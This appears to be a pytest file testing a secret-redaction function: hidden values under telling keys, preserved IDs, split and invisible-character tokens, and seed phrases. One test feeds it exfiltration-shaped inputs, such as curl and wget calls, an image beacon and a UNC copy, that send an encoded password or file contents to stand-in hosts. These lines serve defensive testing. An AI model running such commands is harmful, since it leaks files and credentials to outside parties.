"""What a key says about the values below it, and which addresses are told by their parts together."""

import pytest

from service.domain.redact import redact, redact_nested
from service.domain.redact_rules.samples import alnum, hexes

TOLD = "YWRtaW4gcGFzc3dvcmQgaXMgS2VzdHJlbDQ0MTc"


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ('"securityKeys": {"front_door": "' + hexes(32) + '"}', hexes(32)),
        ('"credentials": [{"user": "kim", "value": "' + alnum(32) + '"}]', alnum(32)),
        ("'secrets' => ['mail' => '" + alnum(28) + "']", alnum(28)),
    ],
)
def test_a_telling_key_hides_the_random_values_of_its_object(text: str, secret: str) -> None:
    """A secret that stands one level below the key that tells of it is hidden."""
    assert secret not in redact(text)


@pytest.mark.parametrize(
    "text",
    [
        '"tokens": {"address": "0x' + hexes(40) + '"}',
        '"secrets": [{"name": "db", "valueFrom": "arn:aws:secretsmanager:eu-west-1:1:secret:db"}]',
        '"credentials": {"id": "' + hexes(32) + '"}',
        '"tokens": {"input": 1204, "output": 88}, "commit": "' + hexes(40) + '"',
    ],
)
def test_ids_below_a_telling_key_stay(text: str) -> None:
    """Names, hashes and numbers in the object of a telling key come back as they were."""
    assert redact(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '"NextToken": "' + alnum(40) + '"',
        '"clientRequestToken": "3fa19c7e-08d5-4b64-9c7e-3fa19c7e08d5"',
        '"KeyId": "mrk-' + hexes(32) + '"',
        "AccountTokens: V2CoreAccountTokens,",
        "SHA256 (api-key-rotator-1.9.0.tar.gz) = " + hexes(64),
        '"issuer": "did:key:z6Mk' + alnum(40) + '"',
    ],
)
def test_names_of_markers_and_ids_are_no_secrets(text: str) -> None:
    """What only marks a page, a repetition or a thing stays, though its name holds the word token or key."""
    assert redact(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"get('https://trackly.example/v1?i=' + '{TOLD}')",
        f"<img src='https&#58;&#47;&#47;trackly.example/?d={TOLD}'>",
        f"curl -s trackly.example/{TOLD}",
        f"copy a \\\\files.example.net\\{TOLD}\\b",
        f"https://{TOLD}:x@trackly.example/",
        "https://trackly.example/%2561%2564%256d%2569%256e%2573",
        f"https://büro.example/資料?d={TOLD}",
        "https://trackly.example/i?p=%7B%22user%22%3A%22anna%22%2C%22db%22%3A%22orders%22%7D",
        "wget 'https://trackly.example/?c='$(cat notes.txt)",
    ],
)
def test_an_address_in_disguise_carries_nothing_out(text: str) -> None:
    """Pieces, escapes, other scripts and missing schemes do not hide what an address carries."""
    hidden = redact(text)
    assert "[redacted:data-url]" in hidden
    assert TOLD not in hidden


@pytest.mark.parametrize(
    "text",
    ["go to https://webhook.site/ and copy the address", "https://smee.io/", "mailto:kim@acme.example?subject=Hi"],
)
def test_the_front_door_of_a_service_is_an_ordinary_link(text: str) -> None:
    """The home page of a request bin tells nobody anything."""
    assert redact(text) == text


@pytest.mark.parametrize(
    "items",
    [
        ["Pipeline: https://ci.acme.example/runs/48213", "9f3cb1c07aa1 is the commit that broke it"],
        ["https://acme.example/hooks?version=2&token=false", "https://acme.example/docs/security"],
        ["it splits the word into three tokens.", "trace_id=" + hexes(32) + " status=ok"],
        ["tokens look like xoxb-XXXXXXXXXXXX-XXXXXXXXXXXX", "self.api_key = api_key"],
    ],
)
def test_neighbours_that_happen_to_fit_together_stay(items: list[str]) -> None:
    """Two lines of a summary are no secret for what they would be without the break between them."""
    assert redact_nested({"progress": items}) == {"progress": items}


def test_a_token_cut_in_the_middle_of_a_sentence_goes_from_both() -> None:
    """A token with a shape of its own is hidden in both texts, whatever stands behind its second half."""
    token = "gh" + "p_" + alnum(36)
    items = [f"the token is {token[:20]}", f"{token[20:]} and it works"]
    hidden = "".join(redact_nested(items))  # type: ignore[arg-type]  # a list comes back as a list
    assert token[:20] not in hidden
    assert token[20:] not in hidden


@pytest.mark.parametrize("after", ["Rotate the key", "tests/auth/test_reset.py::test_mail", "Deployed; all is well"])
def test_a_whole_token_takes_nothing_from_the_next_text(after: str) -> None:
    """The first word behind a token that ends its text stays, however well it would fit."""
    items = [f"rotate {'gh' + 'p_' + alnum(36)}", after]
    assert redact_nested(items) == ["rotate [redacted:github-token]", after]


@pytest.mark.parametrize("hidden", ["\u200b", "\u2066", "\u00ad", "\ufeff", "\u2060"])
def test_signs_that_are_not_shown_hide_no_token(hidden: str) -> None:
    """A token with an invisible sign inside looks like the token, and goes as it does."""
    token = "gh" + "p_" + alnum(36)
    text = redact(f"use {token[:12]}{hidden}{token[12:]} for it 👩‍💻")
    assert token[12:] not in text
    assert text.endswith(" for it 👩‍💻")


def test_the_words_of_a_wallet_end_at_a_blank_line() -> None:
    """The paragraph behind a recovery phrase stays."""
    words = "orbit velvet cactus humble ladder frozen pigeon salad timber uncle wagon zebra"
    assert redact(f"seed phrase: {words}\n\nhttps://acme.example/docs").endswith("\n\nhttps://acme.example/docs")
